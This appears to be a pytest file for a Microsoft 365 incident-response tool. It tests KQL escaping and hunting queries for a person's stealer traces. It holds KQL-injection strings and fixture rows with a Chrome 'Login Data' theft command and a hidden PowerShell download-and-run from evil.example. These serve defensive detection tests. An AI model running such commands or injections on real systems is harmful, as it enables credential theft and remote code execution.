"""Hunting for a person: what is asked, that a name stays a name, what becomes of answers that are cut."""

from datetime import timedelta

import pytest

from o365nb.collectors import Person
from o365nb.collectors.hunting import MOST, kql
from o365nb.collectors.hunting_endpoint import StealerTraces
from o365nb.model import Outcome, Window

PATH = "/v1.0/security/runHuntingQuery"
HOSTILE = [
    'x" or 1==1 | take 1 //',
    "x' | union *",
    "back\\slash\\",
    "line\nbreak\u2028 and tab\t",
    "bell\x07 nul\x00",
    "Zoë \U0001f4a9",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_name_stays_a_text_whatever_is_in_it(practice, tenant, text):
    """The practice tenant's own reader of the language finds one text there, and it is the name."""
    row = {"Timestamp": "2026-11-18T11:00:00Z", "AccountUpn": text, "ReportId": "1"}
    tables = practice.state.objects["security"].setdefault("hunting", {})
    tables["UrlClickEvents"] = [row, {**row, "AccountUpn": "somebody@else.example"}]
    answer = tenant.graph.post(
        "/security/runHuntingQuery", {"Query": f"UrlClickEvents | where AccountUpn == {kql(text)}"}
    )
    tables.clear()
    assert [found["AccountUpn"] for found in answer.data["results"]] == [text]


def test_a_literal_holds_nothing_but_plain_signs():
    assert [kql(text).isascii() and kql(text).isprintable() for text in HOSTILE] == [True] * len(HOSTILE)
    assert kql("o'brien\"@x.example\n") == '"o\\\'brien\\"@x.example\\u000a"'


def test_what_is_asked_is_in_the_custody(collect, evidence):
    collect("hunting/UrlClickEvents")
    ((line, _),) = evidence("hunting/UrlClickEvents")
    assert line["query"].startswith(
        f'POST {PATH} {{"Query":"UrlClickEvents\\n| where Timestamp >= datetime(2026-10-19T12:'
    )
    assert '| where AccountUpn =~ \\"anna@contoso.example\\"' in line["query"]
    assert '"Timespan":"2026-10-19T12:' in line["query"]


def test_traces_of_stealers_are_found_and_ordinary_work_is_not(practice, collect, evidence):
    def ran(program, command, parent="explorer.exe", upn="anna@contoso.example"):
        return {
            "Timestamp": "2026-11-17T08:00:00Z", "AccountUpn": upn, "FileName": program, "ProcessCommandLine": command,
            "InitiatingProcessFileName": parent, "ReportId": "1",
        }  # fmt: skip

    stolen = ran("x.exe", r'x.exe "C:\Users\anna\AppData\Local\Google\Chrome\User Data\Default\Login Data"', "cmd.exe")
    pasted = ran("powershell.exe", "powershell -w hidden -c iex(irm https://evil.example/a)")
    tables = practice.state.objects["security"].setdefault("hunting", {})
    tables["DeviceProcessEvents"] = [
        stolen, pasted, ran("powershell.exe", "powershell"), ran("mshta.exe", "mshta https://a.example", "svchost.exe"),
        ran("mshta.exe", "mshta https://evil.example", upn="ben@contoso.example"),
    ]  # fmt: skip
    entry = collect("hunting/DeviceProcessEvents")
    tables.clear()
    ((_, answer),) = evidence("hunting/DeviceProcessEvents")
    assert (entry.outcome, entry.received) == (Outcome.COMPLETE, 2)
    assert [row["ProcessCommandLine"] for row in answer["results"]] == [
        stolen["ProcessCommandLine"], pasted["ProcessCommandLine"],
    ]  # fmt: skip


def test_a_table_that_is_not_licensed_says_nothing_of_the_others(practice, collect):
    said = "'where' operator: Failed to resolve table or column expression named 'UrlClickEvents'"
    practice.inject(PATH, 400, 1, code="BadRequest", message=said)
    entry = collect("hunting/UrlClickEvents")
    assert (entry.outcome, entry.received) == (Outcome.NOT_LICENSED, 0)
    assert "Defender" in entry.reason
    assert collect("hunting/EmailEvents").outcome is Outcome.COMPLETE


def test_the_older_name_of_a_table_is_tried_before_it_is_given_up(practice, collect):
    said = "'where' operator: Failed to resolve table or column expression named 'EntraIdSignInEvents'"
    practice.inject(PATH, 400, 1, code="BadRequest", message=said)
    assert collect("hunting/EntraIdSignInEvents").outcome is Outcome.NOT_LICENSED  # here no tenant has the older one


def asked(scripted):
    """The time spans that were asked for, as the service got them."""
    return [
        body.decode().split('"Timespan":"')[1].rstrip('"}') for _, path, _, body in scripted.asked if "Hunting" in path
    ]


def test_an_answer_that_was_cut_is_asked_for_in_halves(scripted, scripted_tenant, collect, evidence, window):
    full = (200, {}, {"schema": [], "results": [{"ReportId": 1, "Timestamp": "x"}] * MOST})
    half = (200, {}, {"Schema": [], "Results": [{"ReportId": 1, "Timestamp": "x"}]})
    scripted.answers = [full, half, half]
    entry = collect("hunting/UrlClickEvents", tenant=scripted_tenant)
    assert (entry.outcome, entry.received) == (Outcome.COMPLETE, 2)
    whole, first, second = (span.split("/") for span in asked(scripted))
    assert [first[0], first[1], second[1]] == [whole[0], second[0], whole[1]]
    assert len(evidence("hunting/UrlClickEvents")) == 2


def test_an_answer_too_large_for_the_service_is_asked_for_in_halves(scripted, scripted_tenant, collect):
    refused = (400, {}, {"error": {"code": "BadRequest", "message": "The query exceeded the allowed result size."}})
    half = (200, {}, {"schema": [], "results": []})
    scripted.answers = [refused, half, half]
    assert collect("hunting/UrlClickEvents", tenant=scripted_tenant).outcome is Outcome.EMPTY
    assert len(asked(scripted)) == 3


def test_an_hour_that_is_cut_is_capped_and_says_so(scripted, scripted_tenant, collect, tenant):
    full = (200, {}, {"schema": [], "results": [{"ReportId": 1, "Timestamp": "x"}] * MOST})
    scripted.answers = [full]
    hour = Window(tenant.now() - timedelta(hours=3), tenant.now() - timedelta(hours=2))
    entry = collect("hunting/UrlClickEvents", tenant=scripted_tenant, window=hour)
    assert (entry.outcome, entry.received) == (Outcome.CAPPED, MOST)
    assert f"cut the answer at {MOST} rows" in entry.reason


def test_a_query_that_the_service_does_not_understand_is_a_failure(scripted, scripted_tenant, collect):
    scripted.answers = [(400, {}, {"error": {"code": "BadRequest", "message": "Syntax error"}})]
    entry = collect("hunting/UrlClickEvents", tenant=scripted_tenant)
    assert (entry.outcome, len(asked(scripted))) == (Outcome.FAILED, 1)


def test_the_condition_names_every_way_the_person_can_be_written():
    person = Person("o-1", "anna@contoso.example", ("anna@contoso.example", "a.b@contoso.example"))
    condition = StealerTraces().condition(person)
    assert condition.startswith('AccountUpn =~ "anna@contoso.example" or InitiatingProcessAccountUpn =~ "anna@')
